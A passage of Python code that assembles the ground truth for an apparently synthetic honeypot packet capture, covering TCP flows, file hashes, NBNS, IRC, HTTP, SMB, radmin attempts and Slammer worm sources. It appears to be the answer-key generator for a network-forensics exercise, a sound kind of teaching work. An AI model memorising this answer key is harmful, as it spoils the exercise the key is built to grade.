    return _truth(b, written, irc, failed)


def _truth(b: _Builder, w, irc: IrcTruth, radmin_failed: int) -> GroundTruth:  # type: ignore[no-untyped-def]
    cap = b.cap
    flows = []
    for p in b.flows:
        st = p.conv.stats
        frames = tuple(sorted(cap.frame(h) for h in st.handles))
        flows.append(
            Flow(
                purpose=p.purpose,
                client=p.conv.ends[CLIENT].ip,
                cport=p.conv.ports[CLIENT],
                server=p.conv.ends[SERVER].ip,
                sport=p.conv.ports[SERVER],
                state=p.state,
                syn_seen=st.syn_seen,
                frames=frames,
                packets=(st.packets[0], st.packets[1]),
                app_bytes=(st.app_bytes[0], st.app_bytes[1]),
                md5=(hashlib.md5(st.data[0]).hexdigest(), hashlib.md5(st.data[1]).hexdigest()),
                retransmissions=st.retransmissions,
                note=p.note,
            )
        )
    flows.sort(key=lambda f: f.first_frame)
    files = tuple(
        FileTruth(
            name,
            share,
            client,
            content,
            hashlib.md5(content).hexdigest(),
            hashlib.sha256(content).hexdigest(),
            cap.frame(h1),
            cap.frame(h2),
        )
        for name, share, client, content, h1, h2 in b.files
    )
    total, responded, txids, sources, name_counts = b.extra["nbns"]  # type: ignore[misc]
    http = tuple(
        sorted(
            (
                HttpRequest(c, meth, uri, size, status, cap.frame(h))
                for c, meth, uri, size, status, h in b.http
            ),
            key=lambda r: r.frame,
        )
    )
    ge100 = sorted({r.client for r in http_flows_ge_100(flows)})
    payload: bytes = b.extra["slammer_payload"]  # type: ignore[assignment]
    irc = _irc_splits(irc, b.extra["irc_conv"], cap)  # type: ignore[arg-type]
    return GroundTruth(
        path=w.path,
        packets=w.packets,
        size=w.size,
        md5=w.md5,
        sha256=w.sha256,
        first_time=w.first_time,
        last_time=w.last_time,
        honeypot=HONEYPOT_IP,
        honeypot_mac=HONEYPOT_MAC,
        netbios_name=NETBIOS_NAME,
        workgroup=WORKGROUP,
        remote_hosts=tuple(sorted(b.hosts, key=_ip_int)),
        hosts_by_role={k: tuple(v) for k, v in sorted(b.roles.items())},
        flows=tuple(flows),
        events={k: cap.frame(h) for k, h in sorted(b.events.items())},
        files=files,
        irc=irc,
        nbns=NbnsTruth(
            queries=total,
            responses=responded,
            distinct_queries=len(txids),
            transaction_ids=tuple(txids),
            sources=tuple(sources),
            unanswered_frame=cap.frame(b.events["nbns_unanswered"]),
            name_counts=tuple(sorted(name_counts.items())),
            mac=HONEYPOT_MAC,
        ),
        slammer_sources=tuple(b.roles["slammer"]),
        slammer_count=b.extra["slammer_count"],  # type: ignore[arg-type]
        slammer_md5=hashlib.md5(payload).hexdigest(),
        smb139_paths=tuple(sorted(b.extra["smb139_paths"].items())),  # type: ignore[attr-defined]
        smb139_session_only=b.extra["smb139_session_only"],  # type: ignore[arg-type]
        smb445=tuple(b.smb445),
        http_requests=http,
        http_hosts_ge_100=tuple(ge100),
        cmd_overflow_count=b.extra["cmd_overflow_count"],  # type: ignore[arg-type]
        radmin_failed=radmin_failed,
        radmin_client=ACTORS["smb445_uploader"],
        hackatack_frame=cap.frame(b.events["hackatack"]),
        dns_query=b.extra["dns"][0],  # type: ignore[index]
        dns_answer=b.extra["dns"][1],  # type: ignore[index]
        probe_only_hosts=tuple(b.roles["probe_only"]),
        icmp_hosts=tuple(b.roles["icmp"]),
        fin_tail_ports=b.extra["fin_tail_ports"],  # type: ignore[arg-type]
    )


def _irc_splits(irc: IrcTruth, conv: TcpConversation, cap: Capture) -> IrcTruth:
    """Which server lines the segmenting cut, and which frames hold a piece of a line."""
    stream = irc.server_stream
    starts = {0}
    pos = 0
    spans = []
    while (nl := stream.find(b"\r\n", pos)) >= 0:
        spans.append((pos, nl + 2))
        pos = nl + 2
        starts.add(pos)
    segs = [(h, a, e) for side, h, a, e in conv.stats.segments if side == SERVER]
    cuts = sorted({e for _h, _a, e in segs} - starts)
    split = tuple(
        stream[a : e - 2] for a, e in spans if any(a < x < e for x in _window(cuts, a, e))
    )
    frames = tuple(sorted(cap.frame(h) for h, a, e in segs if a not in starts or e not in starts))
    return replace(irc, split_lines=split, split_frames=frames)


def _window(sorted_vals: list[int], lo: int, hi: int) -> list[int]:
    i = bisect_left(sorted_vals, lo)
    j = bisect_left(sorted_vals, hi)
    return sorted_vals[i:j]


def http_flows_ge_100(flows: list[Flow] | tuple[Flow, ...]) -> list[Flow]:
    """Inbound tcp/80 connections whose client sent >= 100 application bytes (the write-up's
    request-size triage: ra -A, column 11 >= 100)."""
    return [f for f in flows if f.sport == 80 and f.server == HONEYPOT_IP and f.app_bytes[0] >= 100]
